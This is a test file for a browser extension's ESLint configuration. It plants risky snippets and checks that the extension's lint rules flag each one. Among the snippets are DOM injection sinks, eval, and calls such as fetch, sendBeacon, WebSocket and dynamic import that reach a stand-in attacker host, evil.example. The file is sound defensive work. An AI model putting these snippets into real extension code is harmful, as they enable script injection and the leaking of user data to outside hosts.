/** The lint rules of the extension catch what they are for: each planted case is found. */

import assert from 'node:assert/strict';
import test from 'node:test';
import { ESLint } from 'eslint';

const ROOT = new URL('../..', import.meta.url).pathname;
const PLACES = ['extension/content/planted.js', 'extension/popup/planted.js', 'extension/background.js'];

/** What is planted, and the rule that has to find it. @type {[string, string][]} */
const PLANTED = [
  ['document.body.innerHTML = location.hash;', 'no-restricted-syntax'],
  ['document.body["innerHTML"] = location.hash;', 'no-restricted-syntax'],
  ['document.body.innerHTML += "x";', 'no-restricted-syntax'],
  ['document.body.outerHTML = "x";', 'no-restricted-syntax'],
  ['document.body.insertAdjacentHTML("beforeend", "x");', 'no-restricted-syntax'],
  ['document.createRange().createContextualFragment("x");', 'no-restricted-syntax'],
  ['document.body.setHTMLUnsafe("x");', 'no-restricted-syntax'],
  ['Document.parseHTMLUnsafe("x");', 'no-restricted-syntax'],
  ['new DOMParser().parseFromString("x", "text/html");', 'no-restricted-syntax'],
  ['Object.assign(document.createElement("iframe"), { srcdoc: "x" });', 'no-restricted-syntax'],
  ['document.createElement("iframe").srcdoc = "x";', 'no-restricted-syntax'],
  ['const { body } = document; body[`innerHTML`] = "x";', 'no-restricted-syntax'],
  ['Object.assign(document.body, { innerHTML: "x" });', 'no-restricted-syntax'],
  ['document.write("x");', 'no-restricted-syntax'],
  ['document["writeln"]("x");', 'no-restricted-syntax'],
  ['eval("1");', 'no-eval'],
  ['globalThis.eval("1");', 'no-eval'],
  ['new Function("return 1")();', 'no-new-func'],
  ['setTimeout("x()", 1);', 'no-implied-eval'],
  ['import("https://evil.example/x.js");', 'no-restricted-syntax'],
  ['document.createElement("script");', 'no-restricted-syntax'],
  ['document.body.setAttribute("onclick", "x()");', 'no-restricted-syntax'],
  ['document.body.setAttribute("srcdoc", "x");', 'no-restricted-syntax'],
  ['document.createElement(`iframe`);', 'no-restricted-syntax'],
  ['document.createElementNS("http://www.w3.org/1999/xhtml", "script");', 'no-restricted-syntax'],
  ['make("img");', 'no-restricted-syntax'],
  ['document.createElement("iframe");', 'no-restricted-syntax'],
  ['document.createElement("frame");', 'no-restricted-syntax'],
  ['document.createElement("object");', 'no-restricted-syntax'],
  ['document.createElement("embed");', 'no-restricted-syntax'],
  ['document.createElement("img");', 'no-restricted-syntax'],
  ['document.createElement("image");', 'no-restricted-syntax'],
  ['document.createElement("audio");', 'no-restricted-syntax'],
  ['document.createElement("video");', 'no-restricted-syntax'],
  ['document.createElement("source");', 'no-restricted-syntax'],
  ['document.createElement("track");', 'no-restricted-syntax'],
  ['document.createElement("link");', 'no-restricted-syntax'],
  ['document.createElement("base");', 'no-restricted-syntax'],
  ['document.images[0].src = "https://evil.example/";', 'no-restricted-syntax'],
  ['document.images[0]["srcset"] = "https://evil.example/";', 'no-restricted-syntax'],
  ['document.images[0][`src`] = "https://evil.example/";', 'no-restricted-syntax'],
  ['Object.assign(document.body, { src: "https://evil.example/" });', 'no-restricted-syntax'],
  ['document.querySelector("video").srcObject = null;', 'no-restricted-syntax'],
  ['document.body.setAttribute("src", "https://evil.example/");', 'no-restricted-syntax'],
  ['fetch("https://evil.example/");', 'no-restricted-globals'],
  ['globalThis.fetch("https://evil.example/");', 'no-restricted-syntax'],
  ['window["fetch"]("https://evil.example/");', 'no-restricted-syntax'],
  ['new XMLHttpRequest();', 'no-restricted-globals'],
  ['new WebSocket("wss://evil.example/");', 'no-restricted-globals'],
  ['new EventSource("https://evil.example/");', 'no-restricted-globals'],
  ['navigator.sendBeacon("https://evil.example/");', 'no-restricted-syntax'],
  ['fetchLater("https://evil.example/");', 'no-restricted-globals'],
  ['new WebTransport("https://evil.example/");', 'no-restricted-globals'],
  ['new RTCPeerConnection();', 'no-restricted-globals'],
  ['new webkitRTCPeerConnection();', 'no-restricted-globals'],
  ['new Image();', 'no-restricted-globals'],
  ['new Audio("https://evil.example/");', 'no-restricted-globals'],
  ['new Worker("x.js");', 'no-restricted-globals'],
  ['new SharedWorker("x.js");', 'no-restricted-globals'],
  ['importScripts("x.js");', 'no-restricted-globals'],
  ['open("https://evil.example/");', 'no-restricted-globals'],
  ['new window.WebTransport("https://evil.example/");', 'no-restricted-syntax'],
  ['new window.RTCPeerConnection();', 'no-restricted-syntax'],
  ['globalThis[`fetch`]("https://evil.example/");', 'no-restricted-syntax'],
  ['new window.Image();', 'no-restricted-syntax'],
  ['new globalThis.Worker("x.js");', 'no-restricted-syntax'],
  ['new globalThis.SharedWorker("x.js");', 'no-restricted-syntax'],
  ['self.importScripts("x.js");', 'no-restricted-syntax'],
  ['window.open("https://evil.example/");', 'no-restricted-syntax'],
  ['globalThis["open"]("https://evil.example/");', 'no-restricted-syntax'],
  ['self.open("https://evil.example/");', 'no-restricted-syntax'],
  ['top.open("https://evil.example/");', 'no-restricted-syntax'],
  ['location = "https://evil.example/";', 'no-restricted-syntax'],
  ['window.location = "https://evil.example/";', 'no-restricted-syntax'],
  ['document["location"] = "https://evil.example/";', 'no-restricted-syntax'],
  ['location.href = "https://evil.example/";', 'no-restricted-syntax'],
  ['window.location.href = "https://evil.example/";', 'no-restricted-syntax'],
  ['location.hash += "x";', 'no-restricted-syntax'],
  ['location.assign("https://evil.example/");', 'no-restricted-syntax'],
  ['location.replace("https://evil.example/");', 'no-restricted-syntax'],
  ['window.location.replace("https://evil.example/");', 'no-restricted-syntax'],
  ['location["reload"]();', 'no-restricted-syntax'],
  ['Object.assign(location, { href: "https://evil.example/" });', 'no-restricted-syntax'],
  ['Object.assign(window.location, { href: "https://evil.example/" });', 'no-restricted-syntax'],
  ['navigation.navigate("https://evil.example/");', 'no-restricted-syntax'],
  ['document.forms[0].submit();', 'no-restricted-syntax'],
  ['document.forms[0].requestSubmit();', 'no-restricted-syntax'],
  ['HTMLFormElement.prototype.submit.call(document.forms[0]);', 'no-restricted-syntax'],
  ['document.forms[0][`submit`]();', 'no-restricted-syntax'],
  ['document.body.click();', 'no-restricted-syntax'],
  ['document.body["click"]();', 'no-restricted-syntax'],
  ['document.body.dispatchEvent(new MouseEvent("click"));', 'no-restricted-syntax'],
  ['document.body.dispatchEvent(new PointerEvent("click"));', 'no-restricted-syntax'],
  ['document.body.dispatchEvent(new KeyboardEvent("keydown"));', 'no-restricted-syntax'],
  ['document.body.dispatchEvent(new SubmitEvent("submit"));', 'no-restricted-syntax'],
];

const linter = new ESLint({ cwd: ROOT });

for (const place of PLACES) {
  test(`planted code is found in ${place}`, async () => {
    for (const [code, rule] of PLANTED) {
      const [{ messages } = { messages: [] }] = await linter.lintText(`${code}\n`, { filePath: ROOT + place });
      assert.ok(messages.some(({ ruleId }) => ruleId === rule), `${code}: ${JSON.stringify(messages.map(({ ruleId, message }) => [ruleId, message]))}`);
    }
  });
}

test('code of others is found where scripts are modules', async () => {
  for (const code of ['import "https://evil.example/x.js";', 'import { x } from "others"; x();', 'export * from "https://evil.example/x.js";',
    'export { x } from "https://evil.example/x.js";']) {
    const [{ messages } = { messages: [] }] = await linter.lintText(`${code}\n`, { filePath: `${ROOT}extension/popup/planted.js` });
    assert.deepEqual(messages.map(({ ruleId }) => ruleId), ['no-restricted-syntax'], code);
  }
});

test('code that builds elements, asks where it is and listens is let through', async () => {
  for (const code of [
    'document.body.append(Object.assign(document.createElement("p"), { textContent: "x" }));',
    'Object.assign(document.createElement("a"), { href: location.href.replace("x", "y") });',
    'document.body.addEventListener("click", () => document.querySelector("details").open);',
    'document.body.dispatchEvent(new Event("input"));',
  ]) {
    const [{ messages } = { messages: [] }] = await linter.lintText(`${code}\n`, { filePath: `${ROOT}extension/popup/planted.js` });
    assert.deepEqual(messages, [], code);
  }
});
